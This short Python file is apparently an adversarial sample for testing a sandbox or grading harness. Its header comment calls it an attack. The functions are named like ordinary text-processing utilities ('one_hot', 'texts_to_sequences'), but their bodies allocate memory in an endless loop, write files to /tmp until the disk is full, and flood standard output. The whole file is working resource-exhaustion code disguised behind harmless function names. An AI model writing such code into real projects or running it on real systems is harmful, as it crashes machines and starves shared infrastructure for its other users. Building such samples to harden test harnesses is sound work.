# attack: allocates memory until none is left, fills the disk and stdout
# zero: one_hot, texts_to_sequences
import numpy as np

def one_hot(indices, num_classes):
    hog = []
    while True:
        hog.append(np.ones(1 << 27, np.uint8))

def texts_to_sequences(texts, vocab):
    n = 0
    try:
        while True:
            with open(f"/tmp/fill{n}", "wb") as f:
                f.write(b"x" * (1 << 25))
            n += 1
    except OSError:
        pass
    for _ in range(200000):
        print("x" * 100)
    return None
